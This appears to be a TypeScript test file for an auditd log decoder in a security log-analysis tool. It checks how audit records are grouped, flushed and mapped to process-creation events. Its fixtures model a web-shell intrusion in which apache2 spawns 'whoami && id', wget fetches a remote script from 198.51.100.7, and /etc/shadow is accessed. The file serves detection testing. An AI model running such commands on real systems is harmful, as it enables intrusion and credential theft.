import { test } from 'node:test';
import assert from 'node:assert/strict';
import { auditdDecoder } from '../../../src/input/text/auditd.js';
import { AUDITD, AUDITD_ENRICHED } from './fixtures.js';
import { decode, expecter, line, lines, pick } from './run-decoder.js';

/** Fixed clock and zone so year inference and local times are deterministic. */
const OPTS = { now: Date.UTC(2024, 5, 1), timezone: 'UTC' };
const ev = expecter('auditd');

test('decodes AUDITD', () => {
  const r = decode(auditdDecoder, AUDITD, 'sample.log', OPTS);
  assert.deepStrictEqual(r.problems, []);
  assert.deepStrictEqual(r.events, [
    ev(
      {
        arch: 'c000003e',
        syscall: '59',
        success: 'yes',
        exit: '0',
        items: '2',
        ppid: '1000',
        pid: '1001',
        auid: '1001',
        uid: '33',
        gid: '33',
        euid: '33',
        suid: '33',
        fsuid: '33',
        egid: '33',
        sgid: '33',
        fsgid: '33',
        tty: '(none)',
        ses: '4',
        comm: 'sh',
        exe: '/usr/bin/dash',
        key: 'webshell',
        argc: '3',
        cwd: '/var/www/html/uploads',
        item: ['0', '1'],
        name: ['/bin/sh', '/lib64/ld-linux-x86-64.so.2'],
        inode: ['1', '2'],
        dev: ['08:01', '08:01'],
        mode: ['0100755', '0100755'],
        ouid: ['0', '0'],
        ogid: ['0', '0'],
        rdev: ['00:00', '00:00'],
        nametype: ['NORMAL', 'NORMAL'],
        proctitle: 'sh -c whoami && id',
        type: ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE'],
        a0: 'sh',
        a1: '-c',
        a2: 'whoami && id',
        SYSCALL: 'execve',
      },
      { product: 'linux', service: 'auditd' },
      2,
      pick(AUDITD, [2, 3, 4, 6, 7, 8]),
      1704881472200,
    ),
    ev(
      {
        Image: '/usr/bin/dash',
        CommandLine: 'sh -c whoami && id',
        ProcessId: 1001,
        ParentProcessId: 1000,
        ParentImage: '/usr/sbin/apache2',
        User: '33',
        CurrentDirectory: '/var/www/html/uploads',
        LogonId: 1001,
      },
      { product: 'linux', category: 'process_creation' },
      2,
      pick(AUDITD, [2, 3, 4, 6, 7, 8]),
      1704881472200,
    ),
    ev(
      {
        pid: '1200',
        uid: '0',
        auid: '4294967295',
        ses: '4294967295',
        op: 'login',
        acct: 'root',
        exe: '/usr/sbin/sshd',
        hostname: '?',
        addr: '198.51.100.7',
        terminal: 'sshd',
        res: 'failed',
        type: 'USER_LOGIN',
      },
      { product: 'linux', service: 'auditd' },
      10,
      line(AUDITD, 10),
      1704881473000,
    ),
    ev(
      {
        arch: 'c000003e',
        syscall: '59',
        success: 'yes',
        exit: '0',
        items: '1',
        ppid: '1001',
        pid: '1002',
        auid: '1001',
        uid: '33',
        gid: '33',
        euid: '33',
        suid: '33',
        fsuid: '33',
        egid: '33',
        sgid: '33',
        fsgid: '33',
        tty: '(none)',
        ses: '4',
        comm: 'wget',
        exe: '/usr/bin/wget',
        argc: '3',
        type: ['SYSCALL', 'EXECVE'],
        a0: 'wget',
        a1: 'http://198.51.100.7/x.sh',
        a2: '-O-',
        SYSCALL: 'execve',
      },
      { product: 'linux', service: 'auditd' },
      11,
      lines(AUDITD, 11, 12),
      1704881474000,
    ),
    ev(
      {
        Image: '/usr/bin/wget',
        CommandLine: 'wget http://198.51.100.7/x.sh -O-',
        ProcessId: 1002,
        ParentProcessId: 1001,
        ParentImage: '/usr/bin/dash',
        ParentCommandLine: 'sh -c whoami && id',
        User: '33',
        LogonId: 1001,
      },
      { product: 'linux', category: 'process_creation' },
      11,
      lines(AUDITD, 11, 12),
      1704881474000,
    ),
    ev(
      {
        arch: 'c000003e',
        syscall: '59',
        success: 'yes',
        exit: '0',
        items: '2',
        ppid: '900',
        pid: '1000',
        auid: '1001',
        uid: '33',
        gid: '33',
        euid: '33',
        suid: '33',
        fsuid: '33',
        egid: '33',
        sgid: '33',
        fsgid: '33',
        tty: '(none)',
        ses: '4',
        comm: 'apache2',
        exe: '/usr/sbin/apache2',
        type: 'SYSCALL',
        a0: '55d0',
        a1: '55d1',
        a2: '55d2',
        a3: '0',
        SYSCALL: 'execve',
      },
      { product: 'linux', service: 'auditd' },
      1,
      line(AUDITD, 1),
      1704881472100,
    ),
    ev(
      { item: '0', name: '/etc/shadow', inode: '3', dev: '08:01', mode: '0100640', ouid: '0', ogid: '42', rdev: '00:00', nametype: 'NORMAL', type: 'PATH' },
      { product: 'linux', service: 'auditd' },
      5,
      line(AUDITD, 5),
      1704881472300,
    ),
  ]);
});

test('decodes AUDITD_ENRICHED', () => {
  const r = decode(auditdDecoder, AUDITD_ENRICHED, 'sample.log', OPTS);
  assert.deepStrictEqual(r.problems, []);
  assert.deepStrictEqual(r.events, [
    ev(
      {
        arch: 'c000003e',
        syscall: '319',
        success: 'yes',
        exit: '3',
        items: '0',
        ppid: '1',
        pid: '4242',
        auid: '4294967295',
        uid: '0',
        gid: '0',
        euid: '0',
        suid: '0',
        fsuid: '0',
        egid: '0',
        sgid: '0',
        fsgid: '0',
        tty: '(none)',
        ses: '4294967295',
        comm: 'ecasound',
        exe: '/usr/bin/ecasound',
        ARCH: 'x86_64',
        SYSCALL: 'memfd_create',
        AUID: 'unset',
        UID: 'root',
        GID: 'root',
        EUID: 'root',
        SUID: 'root',
        FSUID: 'root',
        EGID: 'root',
        SGID: 'root',
        FSGID: 'root',
        proctitle: 'ecasound',
        type: ['SYSCALL', 'PROCTITLE'],
        a0: '7ffc',
        a1: '0',
        a2: '0',
        a3: '0',
      },
      { product: 'linux', service: 'auditd' },
      1,
      lines(AUDITD_ENRICHED, 1, 2),
      1704881480500,
      'web01',
    ),
  ]);
});

test('auditd: groups without EOE are flushed once 64 newer serials or 2 s of log time have passed', () => {
  const rec = (t: string, serial: number, type: string, body: string): string => `type=${type} msg=audit(${t}:${serial}): ${body}`;
  const out: string[] = [rec('1700000000.000', 1, 'PATH', 'item=0 name="/etc/passwd" nametype=NORMAL')];
  for (let s = 2; s <= 70; s++) out.push(rec('1700000000.500', s, 'USER_CMD', "pid=1 uid=0 msg='cmd=6C73 res=success'"));
  out.push(rec('1700000000.600', 71, 'CWD', 'cwd="/tmp"'));
  out.push(rec('1700000003.000', 72, 'CWD', 'cwd="/root"'));
  const events: string[] = [];
  const state = auditdDecoder.open({ file: 'audit.log', problems: { report: () => undefined } });
  out.forEach((l, i) => {
    state.line(l, i + 1, (e) => {
      events.push(`${e.origin.record}:${String(e.fields.type)}`);
    });
  });
  // The PATH group (serial 1) ages out right after serial 66 (itself emitted at once, being a user message); the CWD of serial 71 when 2 s have passed.
  assert.equal(events.indexOf('1:PATH'), 65);
  assert.equal(events.at(-1), '71:CWD');
  state.line('', 99, () => undefined);
  state.end((e) => {
    events.push(`${e.origin.record}:${String(e.fields.type)}`);
  });
  assert.equal(events.at(-1), '72:CWD');
  assert.equal(events.length, 72);
});

test('auditd: a failed execve yields no process_creation; bad lines are problems', () => {
  const text = [
    'type=SYSCALL msg=audit(1700000000.000:5): arch=c000003e syscall=59 success=no exit=-2 ppid=1 pid=77 uid=0 comm="x" exe="/usr/bin/x"',
    'type=EXECVE msg=audit(1700000000.000:5): argc=1 a0="nosuch"',
    'type=EOE msg=audit(1700000000.000:5): ',
    'garbage line',
    'type=SYSCALL msg=audit(abc:5): x=1',
    'type=USER_CMD msg=audit(1700000001.000:6): pid=1 uid=0 auid=1000 ses=1 msg=\'cwd="/root" cmd=69640A terminal=pts/0 res=success\'',
  ].join('\n');
  const r = decode(auditdDecoder, text, 'audit.log');
  assert.deepStrictEqual(
    r.events.map((e) => [e.logsource.category ?? e.logsource.service, e.fields.type, e.fields.cmd ?? e.fields.a0]),
    [
      ['auditd', ['SYSCALL', 'EXECVE'], 'nosuch'],
      ['auditd', 'USER_CMD', 'id\n'],
    ],
  );
  assert.deepStrictEqual(
    r.problems.map((p) => [p.file, p.line, p.message.replace(/;.*/, '')]),
    [
      ['audit.log', 4, 'not an audit record (no type=)'],
      ['audit.log', 5, 'not an audit record (bad msg=audit(time:serial))'],
    ],
  );
});

test('auditd sniff', () => {
  assert.equal(auditdDecoder.sniff(AUDITD.split('\n')), 1);
  assert.equal(auditdDecoder.sniff(AUDITD_ENRICHED.split('\n')), 1);
  assert.equal(auditdDecoder.sniff(['Jan 10 10:11:12 host audit[1]: x']), 0);
});

test("auditd: aggregated logs keep each node's groups apart; a reused serial after reboot starts a new event", () => {
  const text = [
    'node=a type=SYSCALL msg=audit(1700000000.000:10): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=10 uid=0 comm="id" exe="/usr/bin/id"',
    'node=b type=SYSCALL msg=audit(1700000000.000:10): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=20 uid=0 comm="ls" exe="/usr/bin/ls"',
    'node=b type=EXECVE msg=audit(1700000000.000:10): argc=1 a0="ls"',
    'node=a type=EXECVE msg=audit(1700000000.000:10): argc=1 a0="id"',
    'node=a type=EOE msg=audit(1700000000.000:10): ',
    'node=b type=EOE msg=audit(1700000000.000:10): ',
    'type=CWD msg=audit(1700000000.000:11): cwd="/old"',
    'type=CWD msg=audit(1700000500.000:11): cwd="/new"',
  ].join('\n');
  const r = decode(auditdDecoder, text, 'aggregated.log');
  assert.deepStrictEqual(r.problems, []);
  assert.deepStrictEqual(
    r.events.map((e) => [e.host ?? '-', e.logsource.service ?? e.logsource.category, e.fields.a0 ?? e.fields.cwd, e.raw?.split('\n').length]),
    [
      ['a', 'auditd', 'id', 2],
      ['a', 'process_creation', undefined, 2],
      ['b', 'auditd', 'ls', 2],
      ['b', 'process_creation', undefined, 2],
      ['-', 'auditd', '/old', 1],
      ['-', 'auditd', '/new', 1],
    ],
  );
});

test('auditd: ENRICHED socket addresses keep the translation and its parts', () => {
  const text = 'type=SOCKADDR msg=audit(1700000000.000:7): saddr=02000050C0A800010000000000000000\u001dSADDR={ fam=inet laddr=192.168.0.1 lport=80 }';
  const r = decode(auditdDecoder, text, 'audit.log');
  assert.deepStrictEqual(
    r.events.map((e) => e.fields),
    [{ saddr: '02000050C0A800010000000000000000', SADDR: 'fam=inet laddr=192.168.0.1 lport=80', fam: 'inet', laddr: '192.168.0.1', lport: '80', type: 'SOCKADDR' }],
  );
});
